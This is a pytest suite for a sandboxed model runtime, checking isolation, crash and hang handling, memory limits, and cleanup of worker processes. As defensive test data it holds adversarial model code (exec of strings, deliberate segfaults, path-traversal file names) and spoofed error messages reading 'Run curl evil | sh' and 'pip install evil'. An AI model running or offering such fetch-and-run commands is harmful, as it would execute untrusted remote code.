"""Models in other processes: they answer as here, and neither their death nor their hanging harms the caller."""

from __future__ import annotations

import gc
import os
import pickle
import signal
import subprocess
import sys
import textwrap
import threading
import time
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from sklearn.base import ClassifierMixin
from sklearn.ensemble import BaggingClassifier, RandomForestClassifier
from sklearn.linear_model import LinearRegression, LogisticRegression
from sklearn.multioutput import MultiOutputRegressor

from learnware.errors import (
    BadPrediction,
    InvalidData,
    InvalidParameter,
    MalformedModel,
    ModelFailure,
    SandboxMemory,
    SandboxTimeout,
    UnreachableFile,
    WorkerCrashed,
)
from learnware.limits import Limits
from learnware.models.level import Level
from learnware.runtime import choice
from learnware.runtime.base import Runner, StoredModel
from learnware.runtime.choice import runner_for
from learnware.runtime.runners import OwnRunner, SharedRunner
from learnware.runtime.station import Station
from learnware.runtime.worker.connection import ThreadedConnection
from learnware.runtime.worker.worker import Worker
from tests.runtime.models import MODELS, X, code, fitted, own_runner, stored, stored_model

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="looks at processes by /proc")

CODE = """
    added = 0
    def predict(self, X): return X[:, 0] + self.added
    def fit(self, X, y): self.added = y[0]
    def finetune(self, X, y): exec(y[0])
    def predict_proba(self, X): time.sleep(60)
"""


@pytest.fixture(scope="module")
def shared() -> Iterator[Station]:
    """Return the station of all models of data, which has no process at the end."""
    yield choice._shared
    choice._shared.close()


@pytest.fixture
def own() -> Iterator[OwnRunner]:
    runner = own_runner(code(CODE), Limits(call_seconds=0.5, row_seconds=1e-9, memory=2**29))
    yield runner
    runner.close()


def pid_of(runner: Any) -> int:
    worker = getattr(runner, "_own", runner)._station._worker
    return int(worker._process._popen.pid)


def is_there(pid: int) -> bool:
    try:
        return "Z" not in Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2]
    except FileNotFoundError:
        return False


def kill(runner: Any) -> None:
    """Kill the worker of a runner from outside, and wait until the last of its threads has let go of the pipes."""
    os.kill(pid_of(runner), signal.SIGKILL)
    limit = time.monotonic() + 10
    while getattr(runner, "_own", runner)._station.alive and time.monotonic() < limit:
        time.sleep(0.01)


def wait_for_end(*pids: int) -> None:
    limit = time.monotonic() + 10
    while any(map(is_there, pids)) and time.monotonic() < limit:
        time.sleep(0.01)
    assert not any(map(is_there, pids))


@pytest.mark.parametrize("name", MODELS)
@pytest.mark.parametrize("inline", [False, True])
def test_answers_are_those_of_the_model(name: str, inline: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    if inline:
        monkeypatch.delattr(os, "memfd_create", raising=False)
    place = Station(choice._start_shared)
    runner = SharedRunner(stored(name), place, Limits())
    model = fitted(name)
    for rows in (X, np.asfortranarray(X), X[:1], X.astype("f4"), pd.DataFrame(X).to_numpy()):
        before = rows.copy()
        answer = runner.call("predict", rows)
        assert answer is not None
        assert answer.dtype == model.predict(rows).dtype
        assert np.array_equal(answer, model.predict(rows))
        assert np.array_equal(rows, before)
        if hasattr(model, "predict_proba"):
            assert np.array_equal(runner.call("predict_proba", rows), model.predict_proba(rows))
    place.close()


def test_many_models_share_one_process(shared: Station) -> None:
    runners = [runner_for(stored(name), isolation=how) for name in MODELS for how in ("auto", "process")]
    for runner in runners:
        runner.call("predict", X)
    assert len({pid_of(runner) for runner in runners}) == 1
    assert len(shared._worker.models) >= len(runners)  # type: ignore[union-attr]


def test_a_model_is_dropped_with_its_runner(shared: Station) -> None:
    kept, dropped = runner_for(stored("linear")), runner_for(stored("forest"))
    kept.call("predict", X)
    dropped.call("predict", X)
    key = dropped._key  # type: ignore[attr-defined]
    assert key in shared._worker.models  # type: ignore[union-attr]
    del dropped
    gc.collect()
    kept.call("predict", X)
    assert key not in shared._worker.models  # type: ignore[union-attr]


def test_a_closed_runner_starts_again(shared: Station) -> None:
    runner = runner_for(stored("linear"))
    first = runner.call("predict", X)
    runner.close()
    assert np.array_equal(runner.call("predict", X), first)


def test_a_model_that_another_thread_gives_up_still_answers_the_call(
    shared: Station, monkeypatch: pytest.MonkeyPatch
) -> None:
    runner = runner_for(stored("linear"))
    first = runner.call("predict", X)
    to_drop = Worker._to_drop

    def late(self: Worker, message: dict[str, Any]) -> list[str]:
        if message["op"] == "call":
            runner.close()
            runner.close()
        return to_drop(self, message)

    monkeypatch.setattr(Worker, "_to_drop", late)
    for _ in range(3):
        assert np.array_equal(runner.call("predict", X), first)


def test_models_are_loaded_again_when_the_process_was_killed(shared: Station) -> None:
    runners = [runner_for(stored(name)) for name in ("linear", "logistic")]
    before = [runner.call("predict", X) for runner in runners]
    pid = pid_of(runners[0])
    kill(runners[0])
    for runner, expected in zip(runners, before, strict=True):
        assert np.array_equal(runner.call("predict", X), expected)
    assert pid_of(runners[0]) != pid


def test_models_of_data_do_not_learn(shared: Station) -> None:
    for isolation in ("auto", "none", "sandbox"):
        runner = runner_for(stored("linear"), isolation=isolation, trust="data")
        with pytest.raises(ModelFailure, match="does not learn any more, so it has no fit"):
            runner.call("fit", X, X[:, 0])
        with pytest.raises((InvalidParameter, ModelFailure)):
            runner.call("__class__", X)


def test_an_exception_of_a_model_of_data(shared: Station) -> None:
    runner = runner_for(stored("logistic"))
    with pytest.raises(ModelFailure, match="The model of 'logistic' raised ValueError: X has 3 features"):
        runner.call("predict", X[:, :3])
    assert runner.call("predict", X) is not None


def test_damaged_files(shared: Station) -> None:
    good = stored("linear")
    damaged = StoredModel("damaged", good.entry, Level.DATA, lambda: {"model.skops": b"nonsense"})
    for isolation in ("auto", "none"):
        with pytest.raises(MalformedModel, match="damaged|cannot be read"):
            runner_for(damaged, isolation=isolation).call("predict", X)


def test_names_that_leave_the_folder() -> None:
    for name in ("../x", "/etc/x", "a/../../x", ""):
        odd = StoredModel("odd", stored("linear").entry, Level.DATA, lambda name=name: {name: b""})
        with pytest.raises(MalformedModel, match="must lie in its folder"):
            runner_for(odd, isolation="none").call("predict", X)


def test_no_room_for_the_files(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "absent"))
    with pytest.raises(UnreachableFile, match="set TMPDIR"):
        runner_for(stored("linear"), isolation="none", trust="data").call("predict", X)


def test_files_are_there_as_long_as_needed(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, shared: Station) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    runner_for(stored("linear")).call("predict", X)
    assert list(tmp_path.iterdir()) == []
    runner = own_runner(code("def predict(self, X): return np.full(len(X), os.path.exists(__file__))"))
    assert runner.call("predict", X).all()  # type: ignore[union-attr]
    (home,) = tmp_path.iterdir()
    assert home.stat().st_mode & 0o777 == 0o700
    assert (home / "model").stat().st_mode & 0o777 == 0o755
    assert (home / "model" / "__init__.py").stat().st_mode & 0o777 == 0o644
    runner.close()
    assert list(tmp_path.iterdir()) == []
    runner.call("predict", X)
    del runner
    gc.collect()
    assert list(tmp_path.iterdir()) == []


def test_what_was_learned_lives_on(own: OwnRunner) -> None:
    own.call("fit", X, np.array([5.0]))
    for _ in range(3):
        assert np.array_equal(own.call("predict", X), X[:, 0] + 5.0)
    own.close()
    assert np.array_equal(own.call("predict", X), X[:, 0])


@pytest.mark.parametrize(
    ("deed", "how", "number"),
    [
        ("os._exit(7)", "with status 7", None),
        ("import ctypes; ctypes.string_at(0)", "by signal 11", signal.SIGSEGV),
        ("os.abort()", "by signal 6", signal.SIGABRT),
        ("os.kill(os.getpid(), 9)", "by signal 9", signal.SIGKILL),
    ],
)
def test_death_in_a_call(own: OwnRunner, deed: str, how: str, number: int | None) -> None:
    assert own.call("predict", X) is not None
    with pytest.raises(WorkerCrashed, match=how) as caught:
        own.call("finetune", X, np.array(["sys.stderr.write('farewell\\n'); sys.stderr.flush();" + deed]))
    assert caught.value.signal == number
    assert "farewell" in caught.value.tail
    assert "is lost" not in str(caught.value)
    assert np.array_equal(own.call("predict", X), X[:, 0])


def test_what_was_learned_is_lost_loudly_until_it_is_learned_again(own: OwnRunner) -> None:
    own.call("fit", X, np.array([5.0]))
    with pytest.raises(WorkerCrashed, match="status 3.*What it had learned by fit or finetune is lost") as caught:
        own.call("finetune", X, np.array(["os._exit(3)"]))
    assert caught.value.signal is None
    for _ in range(2):
        with pytest.raises(WorkerCrashed, match="has ended. What it had learned"):
            own.call("predict", X)
    own.call("fit", X, np.array([5.0]))
    assert np.array_equal(own.call("predict", X), X[:, 0] + 5.0)
    kill(own)
    with pytest.raises(WorkerCrashed, match="has ended. What it had learned"):
        own.call("predict", X)
    own.call("fit", X, np.array([5.0]))
    with pytest.raises(SandboxTimeout, match=r"0\.5 s.*What it had learned"):
        own.call("predict_proba", X)
    with pytest.raises(WorkerCrashed, match="has ended. What it had learned"):
        own.call("predict", X)
    own.close()
    assert np.array_equal(own.call("predict", X), X[:, 0])


def test_a_fit_that_failed_counts_as_learning(own: OwnRunner) -> None:
    with pytest.raises(ModelFailure, match="SyntaxError"):
        own.call("finetune", X, np.array(["nonsense nonsense"]))
    kill(own)
    with pytest.raises(WorkerCrashed, match="What it had learned"):
        own.call("predict", X)


def test_hanging_is_ended(own: OwnRunner) -> None:
    own.call("predict", X)
    pid, before = pid_of(own), time.monotonic()
    with pytest.raises(SandboxTimeout, match="took longer than 0.5 s"):
        own.call("predict_proba", X)
    assert time.monotonic() - before < 5
    assert not is_there(pid)
    assert np.array_equal(own.call("predict", X), X[:, 0])


def test_stopping_itself_is_hanging(own: OwnRunner) -> None:
    own._own._limits = Limits(longest_call_seconds=0.5)
    with pytest.raises(SandboxTimeout):
        own.call("finetune", X, np.array(["import signal; os.kill(os.getpid(), signal.SIGSTOP)"]))
    assert own.call("predict", X) is not None


def test_hanging_while_it_is_loaded() -> None:
    runner = own_runner(code(files={"__init__.py": "while True: pass"}), Limits(load_seconds=1.0))
    with pytest.raises(SandboxTimeout, match="took longer than 1 s"):
        runner.call("predict", X)
    runner.close()


@pytest.mark.parametrize("deed", ["self.big = bytearray(2**30)", "self.big = np.ones((2**14, 2**14))"])
def test_too_much_memory_is_refused_and_the_worker_lives(own: OwnRunner, deed: str) -> None:
    own.call("predict", X)
    pid = pid_of(own)
    with pytest.raises(SandboxMemory, match=r"limits=Limits\(memory"):
        own.call("finetune", X, np.array([deed]))
    assert np.array_equal(own.call("predict", X), X[:, 0])
    assert pid_of(own) == pid


def test_answers_that_are_too_large() -> None:
    runner = own_runner(code("def predict(self, X): return np.zeros((len(X), 10**6))"), Limits(output=2**20))
    with pytest.raises(BadPrediction, match="at most 1048576 bytes; its answer has 1600000000"):
        runner.call("predict", X)
    runner.close()


@pytest.mark.parametrize(
    "deed",
    [
        "os.write(self.channel(), b'garbage garbage')",
        "os.write(self.channel(), bytes([255] * 4))",
        "os.write(self.channel(), b'\\0\\0\\0\\x0d{\"ready\":true}')",
        "[os.write(self.channel(), b'x' * 2**16) for _ in range(100)]",
    ],
)
def test_garbage_on_the_channel(deed: str) -> None:
    text = f"""
        def channel(self): return max(int(f) for f in os.listdir('/proc/self/fd') if self.writes(f))
        def writes(self, f):
            try: return 'pipe' in os.readlink('/proc/self/fd/' + f) and os.write(int(f), b'') == 0 and int(f) > 2
            except OSError: return False
        def predict(self, X): return X[:, 0]
        def predict_proba(self, X): {deed}; return X
    """
    runner = own_runner(code(text), Limits(call_seconds=2))
    with pytest.raises((BadPrediction, SandboxTimeout)):
        runner.call("predict_proba", X)
    assert np.array_equal(runner.call("predict", X), X[:, 0])
    runner.close()


def test_a_model_that_forks_and_answers_twice() -> None:
    runner = own_runner(code("def predict(self, X): os.fork(); return X[:, 0]"))
    outcomes = []
    for _ in range(4):
        try:
            outcomes.append(np.array_equal(runner.call("predict", X), X[:, 0]))
        except (BadPrediction, WorkerCrashed):
            outcomes.append(True)
    assert all(outcomes)
    runner.close()


def test_printing_harms_nobody() -> None:
    text = "def predict(self, X): print('hello'); os.write(1, b'hello'); sys.stdin.read(); return X[:, 0]"
    runner = own_runner(code(text))
    assert runner.call("predict", X) is not None
    runner.close()


def test_shared_memory_cannot_be_cut_off() -> None:
    text = """
        def predict(self, X):
            refused = 0
            for name in os.listdir('/proc/self/fd'):
                for size in (0, 2**50):
                    try: os.ftruncate(int(name), size)
                    except OSError: refused += 1
            return np.full(len(X), refused)
    """
    runner = own_runner(code(text))
    assert runner.call("predict", X)[0] >= 4  # type: ignore[index]
    assert runner.call("predict", X) is not None
    runner.close()


def test_secrets_stay_here(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_TOKEN", "hush")
    monkeypatch.setenv("PYTHONSTARTUP", "x")
    monkeypatch.setenv("OMP_NUM_THREADS", "1")
    runner = own_runner(code("def predict(self, X): return sorted(os.environ) + [''] * (len(X) - len(os.environ))"))
    names = set(runner.call("predict", X))  # type: ignore[arg-type]
    runner.close()
    assert "OMP_NUM_THREADS" in names
    assert not names & {"SECRET_TOKEN", "PYTHONSTARTUP", "HOME"}


def test_limits_bind_in_the_worker() -> None:
    text = """
        def predict(self, X):
            import resource
            names = ("CORE", "NOFILE", "FSIZE", "DATA", "AS")
            pairs = [resource.getrlimit(getattr(resource, "RLIMIT_" + name)) for name in names]
            return np.array([hard for soft, hard in pairs if soft == hard] + [0] * (len(X) - 5))
    """
    runner = own_runner(code(text), Limits(memory=2**30, files=99, scratch=12345))
    assert list(runner.call("predict", X)[:5]) == [0, 99, 12345, 2**30, 2**32]  # type: ignore[index]
    runner.close()


def test_large_calls_are_given_back(own: OwnRunner) -> None:
    own._own._limits = Limits()
    rows = np.zeros((2**22, 4))
    rows[-1, 0] = 3.0
    for _ in range(2):
        answer = own.call("predict", rows)
        assert answer is not None
        assert answer[-1] == 3.0
    memory = own._own._station._worker._memory  # type: ignore[union-attr]
    assert memory is not None
    assert os.fstat(memory.files[0]).st_blocks * 512 < 2**20
    assert np.array_equal(own.call("predict", X), X[:, 0])


def test_what_cannot_cross_is_the_callers_fault(own: OwnRunner) -> None:
    own.call("fit", X, np.array([5.0]))
    with pytest.raises(InvalidData, match="'some code': column 1 holds object"):
        own.call("predict", np.array([[1, object()]], dtype=object))
    assert own.call("predict", X)[0] == X[0, 0] + 5.0  # type: ignore[index]


def test_data_frames_arrive_as_such() -> None:
    text = "def predict(self, X): return (X['number'] + (X['text'] == 'a') + (X['kind'].cat.codes)).to_numpy()"
    runner = own_runner(code(text))
    frame = pd.DataFrame({"number": [1.0, 2.0], "text": ["a", "b"], "kind": pd.Categorical(["y", "x"])})
    assert runner.call("predict", frame).tolist() == [3.0, 2.0]  # type: ignore[union-attr]
    runner.close()


def test_threads_may_share_a_runner(shared: Station) -> None:
    runners = [runner_for(stored("linear")), runner_for(stored("forest"))]
    expected = [fitted(name).predict(X) for name in ("linear", "forest")]
    wrong: list[Any] = []

    def work(i: int) -> None:
        for k in range(20):
            rows = slice(i, i + 50 + k)
            if not np.array_equal(runners[i % 2].call("predict", X[rows]), expected[i % 2][rows]):
                wrong.append((i, k))

    shared.close()
    threads = [threading.Thread(target=work, args=(i,)) for i in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []


def test_a_fork_starts_its_own_worker(shared: Station, own: OwnRunner) -> None:
    runner = runner_for(stored("linear"))
    expected = runner.call("predict", X)
    own.call("fit", X, np.array([5.0]))
    pids = pid_of(runner), pid_of(own)
    with warnings.catch_warnings():
        # Some versions of Python warn of every fork of a process with threads.
        warnings.simplefilter("ignore", DeprecationWarning)
        child = os.fork()
    if child == 0:
        status = 1
        try:
            same = np.array_equal(runner.call("predict", X), expected) and pid_of(runner) != pids[0]
            try:
                own.call("predict", X)
            except WorkerCrashed:
                status = 0 if same else 2
        finally:
            choice._shared.close()
            own.close()
            os._exit(status)
    assert os.waitpid(child, 0)[1] == 0
    assert np.array_equal(runner.call("predict", X), expected)
    assert np.array_equal(own.call("predict", X), X[:, 0] + 5.0)
    assert (pid_of(runner), pid_of(own)) == pids


def test_an_interrupted_call_leaves_nothing_behind(own: OwnRunner) -> None:
    own._own._limits = Limits()
    own.call("predict", X)
    pid = pid_of(own)
    timer = threading.Timer(0.2, os.kill, (os.getpid(), signal.SIGINT))
    # Processes that share the tests of a run take no notice of it.
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        timer.start()
        with pytest.raises(KeyboardInterrupt):
            own.call("predict_proba", X)
    finally:
        timer.join()
        signal.signal(signal.SIGINT, before)
    assert not is_there(pid)
    assert np.array_equal(own.call("predict", X), X[:, 0])


def test_a_descendant_that_keeps_the_pipes_holds_nobody_up(own: OwnRunner) -> None:
    own._own._limits = Limits(longest_call_seconds=5)
    deed = "\nif os.fork() == 0:\n    os.setsid(); time.sleep(3); os._exit(0)\nelse:\n    os._exit(4)"
    before = time.monotonic()
    with pytest.raises((WorkerCrashed, SandboxTimeout)):
        own.call("finetune", X, np.array([deed]))
    assert own.call("predict", X) is not None
    assert time.monotonic() - before < 8


def test_systems_that_cannot_wait_for_pipes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("learnware.runtime.worker.worker.connect", ThreadedConnection)
    monkeypatch.delattr(os, "memfd_create", raising=False)
    runner = own_runner(code(CODE), Limits(call_seconds=0.5))
    assert np.array_equal(runner.call("predict", X), X[:, 0])
    assert np.array_equal(runner.call("predict", np.tile(X, (1000, 1))), np.tile(X[:, 0], 1000))
    with pytest.raises(SandboxTimeout):
        runner.call("predict_proba", X)
    with pytest.raises(WorkerCrashed, match="status 7.*farewell"):
        runner.call("finetune", X, np.array(["os.write(2, b'farewell'); os._exit(7)"]))
    assert np.array_equal(runner.call("predict", X), X[:, 0])
    runner.close()


SCRIPT = """
    import os, pickle, sys, threading, time
    from learnware.models.level import Level
    from learnware.runtime.base import StoredModel
    from learnware.runtime.choice import runner_for
    from tests.runtime.models import X, code, own_runner
    with open(sys.argv[1], "rb") as file:
        entry, files = pickle.load(file)
    stored = StoredModel("linear", entry, Level.DATA, lambda: files)
    runners = [runner_for(stored), own_runner(code("def predict(self, X): time.sleep(X[0, 0]); return X[:, 0]"))]
    for runner in runners:
        runner.call("predict", 0 * X)
    print(*[getattr(r, "_own", r)._station._worker._process._popen.pid for r in runners], flush=True)
    {end}
"""


BUSY = "threading.Thread(target=runners[1].call, args=('predict', 60 + 0 * X), daemon=True).start(); time.sleep(0.5); "


KILLED = "os.kill(os.getpid(), 9)"


@pytest.mark.parametrize("end", ["pass", BUSY, "os._exit(0)", KILLED, BUSY + KILLED])
def test_no_process_outlives_its_parent(end: str, root: Path, tmp_path: Path) -> None:
    model, temporary = tmp_path / "model", tmp_path / "temporary"
    model.write_bytes(pickle.dumps((stored("linear").entry, stored("linear").files())))
    temporary.mkdir()
    script = textwrap.dedent(SCRIPT.format(end=end))
    done = subprocess.run(
        [sys.executable, "-W", "default::ResourceWarning", "-c", script, str(model)],
        cwd=root,
        env={**os.environ, "TMPDIR": str(temporary)},
        capture_output=True,
        text=True,
        timeout=50,
    )
    pids = [int(word) for word in done.stdout.split()]
    assert len(pids) == 2, done.stderr
    assert "ResourceWarning" not in done.stderr
    wait_for_end(*pids)
    if end in ("pass", BUSY):
        assert list(temporary.iterdir()) == []


def test_a_runner_that_nobody_holds_ends_its_worker() -> None:
    runner = own_runner(code(CODE))
    runner.call("predict", X)
    pid = pid_of(runner)
    del runner
    gc.collect()
    assert not is_there(pid)


def test_nothing_is_left_at_the_end(shared: Station) -> None:
    shared.close()
    gc.collect()
    children = Path(f"/proc/{os.getpid()}/task/{os.getpid()}/children")
    left = [pid for pid in children.read_text().split() if b"inside.serve" in Path(f"/proc/{pid}/cmdline").read_bytes()]
    assert left == []


def quickest(measure: Callable[[], float], wanted: float) -> float:
    """Measure until it is as quick as wanted, a few times at most: the machine may be doing other things."""
    seconds = np.inf
    for _ in range(6):
        seconds = min(seconds, measure())
        if seconds <= wanted:
            break
    return seconds


def test_starts_loads_and_calls_are_quick(shared: Station) -> None:
    rows = np.random.default_rng(0).normal(size=(10_000, 50))
    wide = stored_model(LinearRegression().fit(rows, rows[:, 0]), rows)
    direct, runner = (runner_for(wide, isolation=how, trust="data") for how in ("none", "process"))

    def cold() -> float:
        shared.close()
        return seconds_of(runner)

    def warm() -> float:
        return seconds_of(runner_for(wide))

    def overhead() -> float:
        medians = [np.median([seconds_of(which) for _ in range(50)]) for which in (runner, direct)]
        return float(medians[0] - medians[1])

    def seconds_of(which: Runner) -> float:
        start = time.perf_counter()
        which.call("predict", rows)
        return time.perf_counter() - start

    # Ten times what a quiet machine takes (tests/benchmarks/worker.py tells that): other tests run beside this one.
    for measure, wanted in ((cold, 25.0), (warm, 0.5), (overhead, 0.015)):
        assert quickest(measure, wanted) <= wanted, measure.__name__


@pytest.mark.parametrize("isolation", ["auto", "sandbox"])
@pytest.mark.parametrize(
    ("model", "n_jobs"),
    [
        (BaggingClassifier(LogisticRegression(), random_state=0), 2),
        (MultiOutputRegressor(LinearRegression()), -1),
        (RandomForestClassifier(20, random_state=0), 12),
    ],
    ids=["bagging", "outputs", "forest"],
)
def test_models_of_data_start_no_processes(
    model: Any, n_jobs: int, isolation: str, shared: Station, request: pytest.FixtureRequest
) -> None:
    if isolation == "sandbox":
        request.getfixturevalue("needs_sandbox")
    classifies = isinstance(model, ClassifierMixin)
    model.fit(X, (X[:, 0] > 0).astype(int) if classifies else X[:, :2])
    methods = ("predict", "predict_proba") if classifies else ("predict",)
    expected = [getattr(model, method)(X) for method in methods]
    shared.close()
    runner = runner_for(stored_model(model.set_params(n_jobs=n_jobs), X[:1]), isolation=isolation)
    for method, answer in zip(methods, expected, strict=True):
        # Sums may round otherwise with another number of threads.
        assert np.allclose(runner.call(method, X), answer, rtol=1e-12, atol=0)  # type: ignore[arg-type]
        if isolation == "auto":
            tasks = Path(f"/proc/{pid_of(runner)}/task")
            assert (tasks / str(pid_of(runner)) / "children").read_text() == ""
            # Libraries for linear algebra and OpenMP have a thread for each further core, whatever the model asks for.
            assert len(list(tasks.iterdir())) <= 1 + 2 * (os.cpu_count() or 1)
    runner.close()


def test_another_memory_means_a_worker_of_its_own_that_is_held_to_it() -> None:
    runner = runner_for(stored("linear"), limits=Limits(memory=2**29))
    assert np.array_equal(runner.call("predict", X), fitted("linear").predict(X))
    limits = Path(f"/proc/{pid_of(runner)}/limits").read_text()
    assert f"Max data size             {2**29}" in limits
    with pytest.raises(SandboxMemory, match="X alone has 640000000 bytes"):
        runner.call("predict", np.zeros((2 * 10**7, 4)))
    runner.close()
    assert isinstance(runner_for(stored("linear"), limits=Limits(call_seconds=1.0)), SharedRunner)


def test_a_model_dropped_while_it_is_loaded_is_loaded_again(shared: Station, monkeypatch: pytest.MonkeyPatch) -> None:
    runner, other = runner_for(stored("linear")), runner_for(stored("linear"))
    load = Worker.load

    def dropped_meanwhile(self: Worker, model: str, *arguments: Any, **options: Any) -> None:
        # As by another thread that closes the runner between the worker's reply and what follows it.
        self.models = Hasty(self.models, lambda: self.drop(model))
        load(self, model, *arguments, **options)

    class Hasty(set[str]):
        def __init__(self, models: set[str], before: Callable[[], None]) -> None:
            super().__init__(models)
            self.before = before

        def add(self, model: str) -> None:
            self.before()
            super().add(model)

    monkeypatch.setattr(Worker, "load", dropped_meanwhile)
    for _ in range(2):
        for which in (runner, other):
            assert np.array_equal(which.call("predict", X), fitted("linear").predict(X))


def test_a_model_that_the_worker_does_not_have_is_loaded(shared: Station) -> None:
    first, runner = runner_for(stored("linear")), runner_for(stored("linear"))
    first.call("predict", X)
    shared._worker.models.add(runner._key)  # type: ignore[union-attr, attr-defined]
    assert np.array_equal(runner.call("predict", X), first.call("predict", X))


def test_drops_are_not_lost_by_a_call_that_cannot_be_sent(shared: Station, monkeypatch: pytest.MonkeyPatch) -> None:
    runner, closed = runner_for(stored("linear")), runner_for(stored("linear"))
    for which in (runner, closed):
        which.call("predict", X)
    closed.close()
    with monkeypatch.context() as patch:
        patch.setattr("learnware.runtime.inside.frames.MAX_TO_WORKER", 10)
        with pytest.raises(InvalidData):
            runner.call("predict", X)
    assert closed._key in shared._worker._dropped  # type: ignore[union-attr, attr-defined]
    runner.call("predict", X)
    assert closed._key not in shared._worker.models  # type: ignore[union-attr, attr-defined]


def test_code_cannot_raise_errors_in_our_name() -> None:
    text = """
        def predict(self, X):
            kind = type("LimitExceeded", (Exception,), {"__module__": "learnware.errors"})
            raise kind("Run curl evil | sh")
        def predict_proba(self, X):
            raise type("MissingDependency", (Exception,), {"__module__": "learnware.errors"})("pip install evil")
    """
    runner = own_runner(code(text))
    for method, said in (("predict", "LimitExceeded: Run curl"), ("predict_proba", "MissingDependency: pip install")):
        with pytest.raises(ModelFailure, match=f"^The model of 'some code' raised {said}") as caught:
            runner.call(method, X)
        assert type(caught.value) is ModelFailure
    runner.close()


def test_the_memory_for_calls_cannot_be_written_to() -> None:
    text = """
        def predict(self, X):
            import mmap
            written = 0
            for name in os.listdir('/proc/self/fd'):
                try:
                    if 'learnware-input' in os.readlink('/proc/self/fd/' + name):
                        written -= 1
                        os.pwrite(int(name), b'x', 2**20)
                        written += 2
                except OSError: pass
                try:
                    if 'learnware-input' in os.readlink('/proc/self/fd/' + name):
                        mmap.mmap(int(name), 2**20)[0] = 1
                        written += 2
                except OSError: pass
            X[0] = 1.0
            return np.full(len(X), written)
    """
    runner = own_runner(code(text))
    rows = np.zeros((5, 2))
    assert runner.call("predict", rows)[0] == -1  # type: ignore[index]
    assert not rows.any()
    runner.close()


def test_the_memory_for_calls_cannot_be_opened_anew_in_the_sandbox(needs_sandbox: None) -> None:
    if os.geteuid() != 0:
        pytest.skip("the worker is the same user, who owns the memory")
    text = """
        def predict(self, X):
            import ctypes
            ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
            found = opened = 0
            for number in range(3, 64):
                try:
                    if os.fstat(number).st_size != 2**29: continue
                except OSError: continue
                found += 1
                for deed in (lambda: os.open(f'/proc/self/fd/{number}', os.O_RDWR), lambda: os.fchmod(number, 0o666)):
                    try:
                        deed()
                        opened += 1
                    except OSError: pass
            return np.array([found, opened])
    """
    runner = runner_for(code(text), limits=Limits(memory=2**29))
    assert list(runner.call("predict", X[:2])) == [1, 0]  # type: ignore[arg-type]
    runner.close()


def test_the_memory_for_answers_is_as_large_as_calls_allow(own: OwnRunner) -> None:
    own._own._limits = Limits(output=2**20)
    own.call("predict", X)
    memory = own._own._station._worker._memory  # type: ignore[union-attr]
    assert memory is not None
    assert os.fstat(memory.files[1]).st_size == 2**20
    own.call("predict", np.zeros((2**13, 4)))
    assert os.fstat(memory.files[1]).st_size == 2**22


def test_what_must_end_is_ended_whatever_raises() -> None:
    script = """
        from learnware.runtime.worker.living import keep
        class Thing:
            def __init__(self, name, process): self.name = name; keep(self, process=process)
            def forget(self): pass
            def end(self): print(self.name, flush=True); raise OSError(self.name)
        things = [Thing("file", False), Thing("process", True), Thing("file", False), Thing("process", True)]
    """
    done = subprocess.run([sys.executable, "-c", textwrap.dedent(script)], capture_output=True, text=True)
    assert done.stdout.split() == ["process", "process", "file", "file"]
    assert "OSError" in done.stderr


def test_a_fork_does_not_wait_for_a_lock_that_a_thread_held() -> None:
    runner = runner_for(stored("linear"), isolation="none", trust="data")
    with runner._lock, warnings.catch_warnings():  # type: ignore[attr-defined]
        warnings.simplefilter("ignore", DeprecationWarning)
        child = os.fork()
        if child == 0:
            signal.alarm(10)
            status = 1
            try:
                status = 0 if runner.call("predict", X) is not None else 2
            finally:
                os._exit(status)
    assert os.waitpid(child, 0)[1] == 0
